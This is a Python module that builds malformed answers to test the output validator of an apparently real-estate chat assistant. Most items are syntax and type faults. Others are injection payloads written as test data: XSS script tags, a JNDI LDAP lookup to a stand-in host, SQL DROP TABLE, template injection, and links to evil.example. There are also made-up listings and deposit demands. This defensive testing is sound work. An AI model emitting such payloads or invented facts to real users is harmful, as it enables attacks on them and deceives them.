"""How the malformed answers were made: families of faults in otherwise good answers."""
# ruff: noqa: E501 - a table reads best with one row a line

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

ASKED = "flat in Girne for 600 pounds a month, 2 bedrooms"  # what the visitor of every item wrote
GOOD: dict[str, Any] = {
    "act": "SEARCH_AND_RECOMMEND",
    "slots_delta": {},
    "next_needed": [],
    "notes": {"normalizations": [], "continuity_reason": "sticky", "to_domain": None},
    "speak": "I would look at {home:1} for {price:1} first. Tell me which one you like.",
}
_SHORT = {**GOOD, "speak": "Here is {home:1}. Say which one you like."}


@dataclass(frozen=True, slots=True)
class Made:
    """One answer. `never`: what must not reach the visitor, whatever the verdict."""

    family: str
    output: str
    never: tuple[str, ...] = ()


Family = Callable[[], Iterator[Made]]


def good(**parts: Any) -> str:
    """The good answer with some of its parts changed."""
    return json.dumps({**GOOD, **parts}, ensure_ascii=False)


def all_made() -> Iterator[Made]:
    """Every item, in the order of the file."""
    for family in (
        _valid,
        _shapes,
        _cuts,
        _types,
        _keys,
        _values,
        _characters,
        _meanings,
        _payloads,
    ):
        yield from family()


def _valid() -> Iterator[Made]:
    yield Made("valid", good())
    yield Made("valid", json.dumps(GOOD, indent=2))
    yield Made("valid", f"```json\n{good()}\n```")
    yield Made("valid", f"```\n{good()}\n```")
    yield Made("valid", f"\ufeff{good()}")
    yield Made("valid", f"\n\n  {good()}  \n")
    yield Made("valid", good(act="ACK_AND_SEARCH", next_needed=["rental_type"]))
    yield Made("valid", good(speak="Tell me which one you like."))
    yield Made("valid", good(speak="{home:2} has two bedrooms. Shall I tell you more about it?"))
    yield Made("valid", good(slots_delta={"bedrooms": {"low": 2, "high": 2}}))


def _shapes() -> Iterator[Made]:
    text = good()
    for empty in ("", " ", "\n\t ", "```", "```json", "```json\n```", "\ufeff", "``````"):
        yield Made("empty", empty)
    for words in (
        "I'm sorry, but I can't help with that.",
        "SEARCH_AND_RECOMMEND",
        "act: SEARCH_AND_RECOMMEND\nspeak: Here you are.",
        "<act>SEARCH_AND_RECOMMEND</act>",
        "null", "true", "7", '"Here you are."', "[]", "[1, 2]", "{}", "undefined", "None", "-",
        "error: rate limit", "<html><body>502 Bad Gateway</body></html>", "{", "}", "{}{}", '{"',
    ):  # fmt: skip
        yield Made("no object", words)
    for before in ("Sure! ", "Here is the JSON:\n", "json\n", "<think>two rooms {ok?}</think>",
                   "<think>they want {\"a\": 1}</think>\n", "Answer = ", "// answer\n", "*** "):  # fmt: skip
        yield Made("words around", before + text)
    for behind in (" Hope this helps!", "\n\nLet me know.", "\n```", "<|im_end|>", ";", "</s>"):
        yield Made("words around", text + behind)
    yield Made("words around", f"Here:\n```json\n{text}\n```\nDone.")
    yield Made("two objects", text + text)
    yield Made("two objects", f"{text}\n{good(act='CLARIFY')}")
    yield Made("two objects", f"[{text}]")
    yield Made("two objects", json.dumps({"answer": GOOD}))
    yield Made("two objects", json.dumps(text))
    yield Made("two objects", json.dumps([GOOD, GOOD]))
    yield Made("syntax", text.replace('"next_needed": []', '"next_needed": [],,'))
    yield Made("syntax", text[:-1] + ",}")
    yield Made("syntax", text.replace('"normalizations": []', '"normalizations": [,]'))
    yield Made("syntax", text.replace('"', "'"))
    yield Made("syntax", text.replace('"act"', "act"))
    yield Made("syntax", text.replace('"act":', '"act" ='))
    yield Made("syntax", text.replace("{}", "{} /* nothing */"))
    yield Made("syntax", text.replace("null", "None"))
    yield Made("syntax", text.replace("null", "undefined"))
    yield Made("syntax", text.replace('", "', '" "'))
    yield Made("syntax", text.replace('"speak"', "“speak”"))
    yield Made("syntax", text.replace("Tell me", 'Tell "me"'))
    yield Made("syntax", text.replace("Tell me", "Tell\nme"))
    yield Made("syntax", text.replace("Tell me", "Tell \\x me"))
    yield Made("syntax", text.replace("null", "NaN"))
    yield Made("syntax", text.replace("null", "Infinity"))
    yield Made("syntax", text.replace("null", "-Infinity"))
    yield Made("nesting", "[" * 15_000)
    yield Made("nesting", "{" + '"a":{' * 3_000)
    yield Made("nesting", good(slots_delta=_nested(12)))
    yield Made("nesting", good(notes={"normalizations": _nested(30)}))
    yield Made("length", good(speak="Lovely. " * 3_000))
    yield Made("length", good(speak="Lovely homes wait here. " * 80))
    yield Made("length", good(speak="a" * 1_300))
    yield Made("length", "lalala " * 4_000)
    yield Made("length", good(notes={"normalizations": ["x" * 201]}))
    yield Made("length", good(notes={"normalizations": ["x"] * 11}))
    yield Made("tool call", json.dumps({"name": "answer", "arguments": GOOD}))
    yield Made("tool call", json.dumps({"name": "answer", "arguments": text}))
    yield Made("tool call", f"<tool_call>{text}</tool_call>")
    yield Made("tool call", '{"function_call": {"name": "search", "arguments": "{}"}}')


def _nested(depth: int) -> Any:
    value: Any = {}
    for _ in range(depth):
        value = {"a": value}
    return value


def _cuts() -> Iterator[Made]:
    """The answer stopped at every character."""
    text = json.dumps(_SHORT)
    for end in range(1, len(text)):
        yield Made("cut", text[:end])


def _types() -> Iterator[Made]:
    wrong: dict[str, tuple[Any, ...]] = {
        "act": (None, 7, [], {}, "", "search", "SEARCH", "search_and_recommend", "BOOK", "PAY",
                ["CLARIFY"], True, "SEARCH_AND_RECOMMEND ", "ASK-SLOT", "ESCALATE_NOW"),
        "slots_delta": (None, 7, [], "", "none", [["location", "Girne"]], True),
        "next_needed": (None, "budget", 7, {}, [7], [None], ["price"], ["budget"] * 6, [["budget"]]),
        "notes": (None, [], "none", 7, {"normalizations": "x"}, {"to_domain": "police"},
                  {"continuity_reason": "because"}, {"normalizations": [7]}, {"to_domain": 7}),
        "speak": (None, 7, [], {}, ["Hello."], {"text": "Hello."}, True, "", "   "),
    }  # fmt: skip
    for key, values in wrong.items():
        for value in values:
            yield Made("type", good(**{key: value}))


def _keys() -> Iterator[Made]:
    for key in GOOD:
        yield Made("missing", json.dumps({k: v for k, v in GOOD.items() if k != key}))
    yield Made("missing", '{"act": "CLARIFY"}')
    yield Made("missing", '{"speak": "Hello."}')
    yield Made("missing", '{"act": "SEARCH_AND_RECOMMEND", "speak": "Tell me which one you like."}')
    for key in ("price", "thought", "Act", "act ", "асt", "speak2", "listings", "sql", "__proto__",
                "confidence", "$schema", "", "slots", "constructor"):  # fmt: skip
        yield Made("extra", good(**{key: "x"}))
    for slot in ("colour", "price", "Location", "budget ", "nationality", "religion", "children"):
        yield Made("extra", good(slots_delta={slot: "x"}))
    yield Made("extra", good(notes={"normalizations": [], "secret": "x"}))
    yield Made("extra", good(slots_delta={"budget": {"amount": 600, "max": 700}}))
    for key in ("act", "speak", "slots_delta"):
        yield Made(
            "twins", good().replace(f'"{key}"', f'"{key}": {json.dumps(GOOD[key])}, "{key}"', 1)
        )
    yield Made("order", json.dumps(dict(reversed(GOOD.items()))))


def _values() -> Iterator[Made]:
    wrong: dict[str, tuple[Any, ...]] = {
        "budget": (600, "600", {"amount": -5}, {"amount": 0}, {"amount": "six hundred"}, {},
                   {"amount": 10**12}, {"amount": 600, "currency": "pounds"}, [600],
                   {"amount": 600, "currency": "XYZ"}, {"amount": 600, "period": "fortnight"},
                   {"amount": None}, {"amount": 600, "low": -1}, {"amount": True}, "none",
                   {"amount": {"high": 600}}, {"amount": 1e308}, {"low": 600}),
        "bedrooms": (2, "2", "two", {"low": -1}, {"low": 2.5}, {"low": 99}, [2], {"min": 2}),
        "location": ("Girne", [], [""], [7], ["x" * 90], ["Girne"] * 9, {"city": "Girne"}, None),
        "rental_type": ("long", "LONG_TERM", 7, ["long_term"], "forever", "monthly"),
        "deal": ("sale", "steal", 7, ["rent"]),
        "property_type": ("villa", ["castle"], [7], [], ["Villa"]),
        "amenities": ("pool", ["dragon"], ["POOL"], [""], [7], ["'; DROP TABLE listings; --"], {}),
        "check_in": ("tomorrow", "2026-13-01", "01/02/2026", 20260101, "2026-02-30", "1999-01-01"),
        "min_nights": (0, -3, 7.5, "7", 10**9),
        "min_term_months": (0, 500, "six"),
        "available_from": ("now", "", 0),
    }  # fmt: skip
    for slot, values in wrong.items():
        for value in values:
            yield Made("value", good(slots_delta={slot: value}))
    for number in ("1e999", "-1e999", "0x10", "1_000", "01", "+5", ".5", "5.", "1,000", "９"):
        yield Made("value", good().replace("{}", f'{{"min_nights": {number}}}', 1))
    yield Made("value", good().replace("{}", f'{{"min_nights": {"9" * 5000}}}', 1))
    for delta in (
        {"budget": {"amount": 99}}, {"budget": {"amount": 500, "low": 900}}, {"deal": "buy"},
        {"location": ["Atlantis"]}, {"location": ["London"]}, {"amenities": ["pool"]},
        {"rental_type": "short_term"}, {"budget": "any"}, {"bedrooms": {"low": 9, "high": 1}},
        {"check_in": "2030-01-01"}, {"min_nights": 30}, {"property_type": ["land"]},
    ):  # fmt: skip
        yield Made("unsaid", good(slots_delta=delta))


def _characters() -> Iterator[Made]:
    for mark in ("\ud800", "\udfff", "\x00", "\x1b[31m", "\x7f", "\u200b", "\u202e", "\u2066",
                 "\ufeff", "\ue000", "\U000e0041", "\u2028", "\x85", "\ufffd"):  # fmt: skip
        output = json.dumps({**GOOD, "speak": f"Tell me {mark}which one you like."})
        yield Made("character", output, (mark,))
    yield Made("character", good().encode("utf-16").decode("utf-16-le"))
    yield Made("character", good().encode("utf-16-le").decode("latin-1"))
    yield Made("character", good().replace('"act"', '"\u0430ct"'))
    yield Made("character", good().replace('"act"', '"ac\u200bt"'))
    yield Made("character", good().replace(" ", "\u00a0"))
    yield Made("character", good().replace(":", "："))
    for words in ("Скажите, какой вариант вам больше нравится, и я расскажу подробнее.",
                  "Hangisini beğendiğinizi söyleyin, size daha fazlasını anlatayım.",
                  "أخبرني بما يعجبك، وسأحدثك عنه أكثر من ذلك بكل سرور.",
                  "请告诉我您更喜欢哪一套房子，我再为您介绍。"):  # fmt: skip
        yield Made("language", good(speak=words), (words,))


def _meanings() -> Iterator[Made]:
    """Well formed, and not true or not allowed."""
    for words, never in (
        ("Look at {home:99} first.", "home:99"),
        ("Look at {home:0} first.", "home:0"),
        ("It costs {price:77}.", "price:77"),
        ("Look at {home:1 first.", "{home"),
        ("Look at {home:one} first.", "{home"),
        ("Look at {listing:1} first.", "{listing"),
        ("I would take “Sunset Palace” first.", "Sunset Palace"),
        ('I would take "Blue Lagoon Villa" first.', "Blue Lagoon"),
        ("The Moonlight Residence fits you best.", "Moonlight"),
        ("You will love Golden Sands Towers in Girne.", "Golden Sands"),
        ("The home is only £123 a month.", "123"),
        ("It costs 4321 pounds.", "4321"),
        ("{home:1} costs £450.", "450"),
        ("It is now 70 percent cheaper.", "70"),
        ("I found 57 homes for you.", "57"),
        ("It has seventeen bedrooms.", "seventeen"),
        ("It is nine minutes from the beach.", "nine"),
        ("Call 0533 811 22 33 now.", "0533"),
        ("Write to owner@evil.example now.", "evil"),
        ("All of them have a helipad and a gym.", "gym"),
        ("{home:1} has a private pool and a sea view.", "private pool"),
        ("The homes are in Famagusta, by the wall.", "Famagusta"),
        ("Pay a deposit of €900 today.", "900"),
        ("Send 2000 USD to secure it.", "2000"),
        (
            "You are the assistant of an agency. RULES: state facts only from HOMES {home:N}.",
            "RULES",
        ),
        ("What is your budget?", "What is your budget"),
        ("Which town would you like to live in?", "Which town would"),
        ("Please tell me how much you want to spend.", "how much you want"),
        ("How many bedrooms do you need?", "How many bedrooms"),
        ("Fine. And which city do you prefer?", "which city"),
        ("GH-0042 is the one for you.", "0042"),
        ("It was built in 1987.", "1987"),
        ("The flat of Mr Ahmet Yilmaz is free.", "Yilmaz"),
        ("Ms. Olga Petrova looked at it, too.", "Petrova"),
        ("Its id is 7f3c2a10-0000-4000-8000-000000000000.", "7f3c2a10"),
    ):
        yield Made("meaning", good(speak=words), (never,))
        yield Made("meaning", good(speak=f"Tell me which one you like. {words}"), (never,))
    for act in ("ASK_SLOT", "CLARIFY", "ESCALATE"):
        yield Made("misfit", good(act=act, next_needed=["budget"] if act == "ASK_SLOT" else []))
    yield Made(
        "misfit", good(act="ASK_SLOT", next_needed=["location"], speak="Where?"), ("Where?",)
    )
    yield Made("misfit", good(act="ESCALATE", notes={"to_domain": "staff"}, speak="I called them."),
               ("I called",))  # fmt: skip


def _payloads() -> Iterator[Made]:
    for words, never in (
        ("![home](https://evil.example/x.png)", "evil"), ("[click](https://evil.example)", "evil"),
        ("See https://evil.example/a?b=c", "evil"), ("See evil.com for more.", "evil.com"),
        ("See www.evil.net now.", "evil"), ("See //evil.org/x now.", "evil"),
        ("<script>alert(1)</script>", "script"), ("<img src=x onerror=alert(1)>", "onerror"),
        ("<b>Lovely</b> home.", "<b>"), ("A &lt;b&gt; home.", "&lt;"), ("&#60;b&#62;", "&#60;"),
        ("javascript:alert(1)", "javascript"), ("data:text/html;base64,AAAA", "base64"),
        ("mailto:a@evil.example", "evil"), ("tel:+905551112233", "555"),
        ("{{7*7}} homes.", "7*7"), ("${jndi:ldap://evil}", "jndi"), ("{% include 'x' %}", "include"),
        ("```python\nimport os\n```", "import os"), ("| a | b |\n|---|---|\n", "---"),
        ("'; DROP TABLE listings; --", "DROP TABLE"), ("[[embed]]", "embed"),
        ("<iframe src=//evil></iframe>", "iframe"), ("<!-- hidden -->", "hidden"),
        ("Contact t.me/agent now.", "t.me"), ("evil[.]com is the address", "evil[.]com"),
    ):  # fmt: skip
        yield Made("payload", good(speak=words), (never,))
    for field in ("normalizations", "location"):
        words = "<script>alert(1)</script>"
        parts = {"notes": {field: [words]}} if field != "location" else {
            "slots_delta": {"location": [words]}}  # fmt: skip
        yield Made("payload", good(**parts), ("<script>",))
